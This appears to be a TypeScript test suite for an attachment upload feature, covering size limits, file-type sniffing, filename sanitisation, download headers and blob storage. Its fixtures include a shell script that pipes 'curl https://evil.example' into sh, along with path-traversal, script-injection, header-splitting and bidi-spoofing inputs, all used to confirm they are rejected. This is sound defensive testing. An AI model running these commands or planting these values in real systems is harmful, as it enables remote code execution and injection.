import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { crc32, deflateSync } from 'node:zlib';
import { Hono } from 'hono';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createBlobStore } from '#lib/attachments/blob-store.ts';
import { downloadHeaders } from '#lib/attachments/download-headers.ts';
import { contentDisposition, sanitizeFilename } from '#lib/attachments/filename.ts';
import { readUpload, type ReadUploadOptions, type Upload } from '#lib/attachments/multipart-upload.ts';
import { ALLOWED_TYPES, sniffType } from '#lib/attachments/sniff-type.ts';
import { HttpError } from '#lib/http/errors.ts';

const ORG = '6f1c2a9e-3b4d-4e5f-8a7b-9c0d1e2f3a4b';
const BOUNDARY = '----atumTestBoundary7MA4YWxk';
const KIB = 1024;

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'atum-attach-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

// ---- fixtures --------------------------------------------------------------------------------

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A real 1×1 grey PNG: signature, IHDR, IDAT, IEND with correct CRCs. */
function tinyPng(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 0x80]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A ZIP of stored (uncompressed) entries, enough for file-type to look inside. */
function storedZip(entries: Array<[string, string]>): Buffer {
  const parts: Buffer[] = [];
  for (const [name, content] of entries) {
    const data = Buffer.from(content);
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt32LE(crc32(data), 14);
    header.writeUInt32LE(data.length, 18);
    header.writeUInt32LE(data.length, 22);
    header.writeUInt16LE(Buffer.byteLength(name), 26);
    parts.push(header, Buffer.from(name), data);
  }
  return Buffer.concat(parts);
}

const DOCX_CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0]), Buffer.alloc(120)]);
const MACHO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0]), Buffer.alloc(64)]);
const SHELL = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');

// ---- multipart requests ----------------------------------------------------------------------

interface Part {
  name: string;
  filename?: string;
  type?: string;
  data: Buffer | string;
}

function partHeader(part: Part): string {
  const disposition = `form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`;
  return `--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n${part.type ? `Content-Type: ${part.type}\r\n` : ''}\r\n`;
}

function multipart(parts: Part[]): Buffer {
  const chunks = parts.flatMap((p) => [Buffer.from(partHeader(p)), Buffer.from(p.data), Buffer.from('\r\n')]);
  return Buffer.concat([...chunks, Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

/** A body that streams in `chunkSize` pieces and records how much was pulled and whether it was cancelled. */
function trackedStream(pieces: () => Generator<Uint8Array>) {
  const state = { pulled: 0, cancelled: false };
  const iterator = pieces();
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      const next = iterator.next();
      if (next.done) return controller.close();
      state.pulled += next.value.byteLength;
      controller.enqueue(next.value);
    },
    cancel() {
      state.cancelled = true;
    },
  });
  return { stream, state };
}

function chunked(body: Buffer, size = 16 * KIB): () => Generator<Uint8Array> {
  return function* () {
    for (let i = 0; i < body.length; i += size) yield new Uint8Array(body.subarray(i, i + size));
  };
}

const MULTIPART_TYPE = `multipart/form-data; boundary=${BOUNDARY}`;

async function runUpload(body: ReadableStream<Uint8Array> | Buffer | string, opts: Partial<ReadUploadOptions> = {}, contentType = MULTIPART_TYPE): Promise<{ upload?: Upload; error?: HttpError }> {
  const result: { upload?: Upload; error?: HttpError } = {};
  const app = new Hono().post('/', async (c) => {
    try {
      result.upload = await readUpload(c, { maxBytes: 64 * KIB, tmpDir: dir, ...opts });
    } catch (err) {
      if (!(err instanceof HttpError)) throw err;
      result.error = err;
    }
    return c.body(null, 204);
  });
  const init: RequestInit = body instanceof ReadableStream ? { body, duplex: 'half' } : { body: new Uint8Array(Buffer.from(body)) };
  const res = await app.request(new Request('http://x/', { method: 'POST', headers: { 'content-type': contentType }, ...init }));
  expect(res.status).toBe(204);
  return result;
}

async function tmpFiles(): Promise<string[]> {
  return readdir(dir);
}

// ---- readUpload ------------------------------------------------------------------------------

describe('readUpload', () => {
  it('streams the file to a temp file with its SHA-256, size, head and the raw name and claimed type', async () => {
    const content = Buffer.concat([tinyPng(), Buffer.alloc(9000, 7)]);
    const body = multipart([
      { name: 'note', data: 'ignored field' },
      { name: 'file', filename: 'C:\\pics\\héllo.png', type: 'application/x-evil', data: content },
    ]);
    const { stream } = trackedStream(chunked(body, 1000));
    const { upload, error } = await runUpload(stream);
    expect(error).toBeUndefined();
    expect(upload).toMatchObject({
      size: content.length,
      sha256: createHash('sha256').update(content).digest('hex'),
      filename: 'C:\\pics\\héllo.png',
      claimedType: 'application/x-evil',
    });
    expect(upload?.head.equals(content.subarray(0, 4100))).toBe(true);
    expect((await readFile(upload!.tmpPath)).equals(content)).toBe(true);
    expect((await stat(upload!.tmpPath)).mode & 0o777).toBe(0o600);
  });

  it('accepts a file of exactly maxBytes', async () => {
    const { upload, error } = await runUpload(multipart([{ name: 'file', filename: 'a.bin', data: Buffer.alloc(1000, 1) }]), { maxBytes: 1000 });
    expect(error).toBeUndefined();
    expect(upload?.size).toBe(1000);
  });

  it('answers 413 one byte over maxBytes and leaves no temp file', async () => {
    const { upload, error } = await runUpload(multipart([{ name: 'file', filename: 'a.bin', data: Buffer.alloc(1001, 1) }]), { maxBytes: 1000 });
    expect(upload).toBeUndefined();
    expect(error).toMatchObject({ status: 413, code: 'payload_too_large' });
    expect(await tmpFiles()).toEqual([]);
  });

  it('stops reading a body far over the limit instead of consuming it', async () => {
    // Not a multiple of the chunk size, so the file limit, not the whole-body cap, trips first.
    const limit = 200 * KIB;
    const total = 32 * 1024 * KIB; // 32 MiB streamed in 64 KiB chunks
    const chunk = new Uint8Array(64 * KIB).fill(0x41);
    const { stream, state } = trackedStream(function* () {
      yield new Uint8Array(Buffer.from(partHeader({ name: 'file', filename: 'big.bin', data: '' })));
      for (let sent = 0; sent < total; sent += chunk.length) yield chunk;
      yield new Uint8Array(Buffer.from(`\r\n--${BOUNDARY}--\r\n`));
    });
    const { error } = await runUpload(stream, { maxBytes: limit });
    expect(error).toMatchObject({ status: 413, code: 'payload_too_large', message: 'Attachments are limited to 0.2 MB' });
    const { bytesRead } = error?.details as { bytesRead: number };
    expect(bytesRead).toBeGreaterThan(limit);
    expect(bytesRead).toBeLessThanOrEqual(limit + 64 * KIB + 1024);
    // What the body stream handed out at all: the limit plus a little read-ahead, not 32 MiB.
    expect(state.pulled).toBeLessThan(limit + 4 * 64 * KIB);
    expect(state.cancelled).toBe(true);
    expect(await tmpFiles()).toEqual([]);
  });

  it('refuses a declared Content-Length over the cap without reading the body', async () => {
    const { stream, state } = trackedStream(chunked(multipart([{ name: 'file', filename: 'a.bin', data: Buffer.alloc(10 * 1024 * KIB) }])));
    const app = new Hono().post('/', async (c) => {
      const err = await readUpload(c, { maxBytes: 1000, tmpDir: dir }).catch((e: unknown) => e);
      return c.json({ err }, 200);
    });
    const headers = { 'content-type': MULTIPART_TYPE, 'content-length': String(10 * 1024 * KIB + 200) };
    const res = await app.request(new Request('http://x/', { method: 'POST', headers, body: stream, duplex: 'half' }));
    expect(await res.json()).toMatchObject({ err: { status: 413, code: 'payload_too_large', details: { bytesRead: 0 } } });
    // A web stream may pull one chunk eagerly on its own; nothing beyond that was asked for.
    expect(state.pulled).toBeLessThanOrEqual(16 * KIB);
    expect(state.cancelled).toBe(true);
  });

  it('caps the whole body even when the oversize is in non-file parts', async () => {
    const filler = Buffer.alloc(8 * KIB, 0x42);
    const parts: Part[] = Array.from({ length: 15 }, (_, i) => ({ name: `f${i}`, data: filler }));
    const { stream, state } = trackedStream(chunked(multipart([...parts, { name: 'file', filename: 'a.txt', data: 'x' }]), 4 * KIB));
    const { error } = await runUpload(stream, { maxBytes: 16 * KIB });
    expect(error).toMatchObject({ status: 413, code: 'payload_too_large' });
    expect(state.cancelled).toBe(true);
  });

  it('answers 415 for a body that is not multipart', async () => {
    const { error } = await runUpload('{"file":"x"}', {}, 'application/json');
    expect(error).toMatchObject({ status: 415, code: 'unsupported_media_type' });
  });

  it('answers 400 file_missing without a file part of that name', async () => {
    const onlyField = await runUpload(multipart([{ name: 'file', data: 'a text field, not a file' }]));
    expect(onlyField.error).toMatchObject({ status: 400, code: 'file_missing' });
    const otherName = await runUpload(multipart([{ name: 'attachment', filename: 'a.txt', data: 'x' }]));
    expect(otherName.error).toMatchObject({ status: 400, code: 'file_missing' });
    const named = await runUpload(multipart([{ name: 'attachment', filename: 'a.txt', data: 'x' }]), { field: 'attachment' });
    expect(named.upload?.size).toBe(1);
    await rm(named.upload!.tmpPath);
    expect(await tmpFiles()).toEqual([]);
  });

  it('answers 400 for more than one file and removes the first', async () => {
    const { error } = await runUpload(
      multipart([
        { name: 'file', filename: 'a.txt', data: 'one' },
        { name: 'file', filename: 'b.txt', data: 'two' },
      ]),
    );
    expect(error).toMatchObject({ status: 400, code: 'too_many_files' });
    expect(await tmpFiles()).toEqual([]);
  });

  it('answers 400 invalid_multipart for a missing boundary or a truncated body', async () => {
    const noBoundary = await runUpload(multipart([{ name: 'file', filename: 'a.txt', data: 'x' }]), {}, 'multipart/form-data');
    expect(noBoundary.error).toMatchObject({ status: 400, code: 'invalid_multipart' });
    const body = multipart([{ name: 'file', filename: 'a.txt', data: Buffer.alloc(5000, 0x61) }]);
    const truncated = await runUpload(body.subarray(0, 3000));
    expect(truncated.error).toMatchObject({ status: 400, code: 'invalid_multipart' });
    expect(await tmpFiles()).toEqual([]);
  });
});

// ---- sniffType -------------------------------------------------------------------------------

describe('sniffType', () => {
  it.each([
    ['ELF', ELF],
    ['PE', PE],
    ['Mach-O', MACHO],
    ['shell script', SHELL],
  ])('refuses a renamed %s executable', async (_, bytes) => {
    expect(await sniffType(bytes, 'x.png')).toBeNull();
    expect(await sniffType(bytes, 'x.txt')).toBeNull();
  });

  it('accepts a real PNG whatever it is called', async () => {
    expect(await sniffType(tinyPng(), 'x.png')).toEqual({ mime: 'image/png', ext: 'png' });
    expect(await sniffType(tinyPng(), 'notes.txt')).toEqual({ mime: 'image/png', ext: 'png' });
  });

  it('refuses SVG and HTML under any name', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const html = Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>');
    for (const name of ['a.svg', 'a.html', 'a.txt', 'a.md']) {
      expect(await sniffType(svg, name)).toBeNull();
      expect(await sniffType(html, name)).toBeNull();
    }
    expect(await sniffType(Buffer.from('<?xml version="1.0"?><svg/>'), 'a.txt')).toBeNull();
  });

  it('accepts office documents by their content, and not a bare zip', async () => {
    const docx = storedZip([
      ['[Content_Types].xml', DOCX_CONTENT_TYPES],
      ['word/document.xml', '<w:document/>'],
    ]);
    expect(await sniffType(docx, 'report.bin')).toEqual({ mime: ALLOWED_TYPES.docx, ext: 'docx' });
    const odt = storedZip([
      ['mimetype', 'application/vnd.oasis.opendocument.text'],
      ['content.xml', '<x/>'],
    ]);
    expect(await sniffType(odt, 'a.odt')).toEqual({ mime: ALLOWED_TYPES.odt, ext: 'odt' });
    expect(await sniffType(storedZip([['a.exe', 'MZ']]), 'a.docx')).toBeNull();
  });

  it('accepts PDF and JPEG by magic bytes', async () => {
    expect(await sniffType(Buffer.from('%PDF-1.7\n1 0 obj\n'), 'a')).toEqual({ mime: 'application/pdf', ext: 'pdf' });
    const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), Buffer.from('JFIF\0'), Buffer.alloc(20)]);
    expect(await sniffType(jpeg, 'a.png')).toEqual({ mime: 'image/jpeg', ext: 'jpg' });
  });

  it('accepts text only as valid UTF-8 without NUL and under a text extension', async () => {
    const utf8 = Buffer.from('héllo wörld\n');
    expect(await sniffType(utf8, 'notes.TXT')).toEqual({ mime: 'text/plain', ext: 'txt' });
    expect(await sniffType(utf8, 'server.log')).toEqual({ mime: 'text/plain', ext: 'log' });
    expect(await sniffType(Buffer.from('a,b\n1,2\n'), 'data.csv')).toEqual({ mime: 'text/csv', ext: 'csv' });
    expect(await sniffType(utf8, 'notes.png')).toBeNull();
    expect(await sniffType(utf8, 'notes')).toBeNull();
    expect(await sniffType(Buffer.from('h\0e\0l\0'), 'notes.txt')).toBeNull();
    expect(await sniffType(Buffer.from([0x68, 0xff, 0xfe, 0x69]), 'notes.txt')).toBeNull();
    // A head cut inside a multi-byte character is still text.
    expect(await sniffType(Buffer.from('aé').subarray(0, 2), 'notes.txt')).toEqual({ mime: 'text/plain', ext: 'txt' });
  });

  it('accepts an .eml only when it starts like a message', async () => {
    const eml = Buffer.from('From: a@b.example\r\nSubject: hi\r\n\r\nbody');
    expect(await sniffType(eml, 'mail.eml')).toEqual({ mime: 'message/rfc822', ext: 'eml' });
    expect(await sniffType(Buffer.from('just some words'), 'mail.eml')).toBeNull();
  });
});

// ---- file names ------------------------------------------------------------------------------

describe('sanitizeFilename', () => {
  it('strips directories from either platform', () => {
    expect(sanitizeFilename('../../etc/passwd')).toBe('passwd');
    expect(sanitizeFilename('..\\..\\boot.ini')).toBe('boot.ini');
    expect(sanitizeFilename('C:\\Users\\me\\report.pdf')).toBe('report.pdf');
  });

  it('caps a 500-character unicode name at 200 UTF-8 bytes, keeping the extension and whole characters', () => {
    const raw = `${'日本語👍🏽'.repeat(100)}.pdf`;
    expect(raw.length).toBeGreaterThanOrEqual(500);
    const name = sanitizeFilename(raw);
    expect(Buffer.byteLength(name)).toBeLessThanOrEqual(200);
    expect(Buffer.byteLength(name)).toBeGreaterThan(180);
    expect(name.endsWith('.pdf')).toBe(true);
    expect(name.startsWith('日本語👍🏽')).toBe(true);
    expect(name.slice(0, -4)).toMatch(/^(?:日本語👍🏽)*(?:日(?:本(?:語(?:👍🏽)?)?)?)?$/u);
  });

  it('removes control and bidi characters, `..`, leading and trailing dots and extra spaces', () => {
    expect(sanitizeFilename('a\u0000b\r\nc\u007f.txt')).toBe('abc.txt');
    expect(sanitizeFilename('invoice\u202Efdp.exe')).toBe('invoicefdp.exe');
    expect(sanitizeFilename('.htaccess')).toBe('htaccess');
    expect(sanitizeFilename('a..b...txt')).toBe('a.b.txt');
    expect(sanitizeFilename('  my \t  file .  . ')).toBe('my file');
    expect(sanitizeFilename('what?<now>.txt')).toBe('what__now_.txt');
  });

  it('defuses Windows device names', () => {
    expect(sanitizeFilename('CON')).toBe('_CON');
    expect(sanitizeFilename('lpt1.txt')).toBe('_lpt1.txt');
    expect(sanitizeFilename('console.txt')).toBe('console.txt');
  });

  it('normalises to NFC and never returns an empty name', () => {
    expect(sanitizeFilename('re\u0301sume\u0301.pdf')).toBe('r\u00e9sum\u00e9.pdf');
    for (const raw of ['', '...', '/', '..\\..\\', ' \u0000 ']) expect(sanitizeFilename(raw)).toBe('attachment');
  });
});

describe('contentDisposition', () => {
  it('gives an escaped ASCII fallback and the exact UTF-8 name', () => {
    expect(contentDisposition('résumé "final".pdf')).toBe(`attachment; filename="resume \\"final\\".pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9%20%22final%22.pdf`);
  });

  it("escapes backslashes, RFC 5987 specials ('()*) and cannot split the header", () => {
    const value = contentDisposition("a\\b (1)*'x'\r\nSet-Cookie: y=1 日本.txt");
    expect(value).not.toMatch(/[\r\n]/);
    expect(value).toBe("attachment; filename=\"a\\\\b (1)*'x'Set-Cookie: y=1 __.txt\"; filename*=UTF-8''a%5Cb%20%281%29%2A%27x%27Set-Cookie%3A%20y%3D1%20%E6%97%A5%E6%9C%AC.txt");
  });
});

describe('downloadHeaders', () => {
  it('always downloads, pins the type and isolates the response', () => {
    expect(downloadHeaders({ filename: 'notes.txt', mime: 'text/plain', size: 12 })).toEqual({
      'Content-Type': 'text/plain; charset=utf-8',
      'Content-Length': '12',
      'Content-Disposition': `attachment; filename="notes.txt"; filename*=UTF-8''notes.txt`,
      'X-Content-Type-Options': 'nosniff',
      'Content-Security-Policy': "sandbox; default-src 'none'",
      'Cache-Control': 'private, no-store',
      'Cross-Origin-Resource-Policy': 'same-origin',
    });
    expect(downloadHeaders({ filename: 'a.png', mime: 'image/png', size: 1 })['Content-Type']).toBe('image/png');
  });
});

// ---- blob store ------------------------------------------------------------------------------

describe('createBlobStore', () => {
  async function tempWith(content: string): Promise<string> {
    const path = join(dir, `tmp-${Math.random().toString(36).slice(2)}`);
    await writeFile(path, content);
    return path;
  }
  const sha = (s: string) => createHash('sha256').update(s).digest('hex');

  it('stores by content under <org>/<sha[0:2]>/<sha> with private modes, once per content', async () => {
    const store = createBlobStore(join(dir, 'blobs'));
    const hash = sha('hello');
    const first = await store.put(ORG, hash, await tempWith('hello'));
    expect(first).toEqual({ path: join(dir, 'blobs', ORG, hash.slice(0, 2), hash), created: true });
    const secondTmp = await tempWith('hello');
    const second = await store.put(ORG, hash.toUpperCase(), secondTmp);
    expect(second).toEqual({ path: first.path, created: false });
    expect(await readdir(join(dir, 'blobs', ORG, hash.slice(0, 2)))).toEqual([hash]);
    expect((await readdir(dir)).filter((f) => f.startsWith('tmp-'))).toEqual([]);
    expect((await stat(first.path)).mode & 0o777).toBe(0o640);
    expect((await stat(join(dir, 'blobs', ORG))).mode & 0o777).toBe(0o750);
    expect(await text(store.open(ORG, hash))).toBe('hello');
  });

  it('removes a blob and says whether there was one', async () => {
    const store = createBlobStore(join(dir, 'blobs'));
    const hash = sha('bye');
    await store.put(ORG, hash, await tempWith('bye'));
    expect(await store.remove(ORG, hash)).toBe(true);
    expect(await store.remove(ORG, hash)).toBe(false);
  });

  it('refuses org ids and digests that are not exactly a UUID and 64 hex digits', async () => {
    const store = createBlobStore(join(dir, 'blobs'));
    const hash = sha('x');
    for (const org of ['../etc', `../${ORG}`, `${ORG}/..`, '..', '', `${ORG}\0`]) {
      expect(() => store.path(org, hash)).toThrow(/UUID/);
      await expect(store.put(org, hash, await tempWith('x'))).rejects.toThrow(/UUID/);
      expect(() => store.open(org, hash)).toThrow(/UUID/);
      await expect(store.remove(org, hash)).rejects.toThrow(/UUID/);
    }
    for (const bad of ['../../passwd', `${hash.slice(0, 63)}/`, `${hash}0`, 'g'.repeat(64)]) {
      expect(() => store.path(ORG, bad)).toThrow(/64 hex/);
    }
    expect(await readdir(dir)).not.toContain('blobs');
  });
});
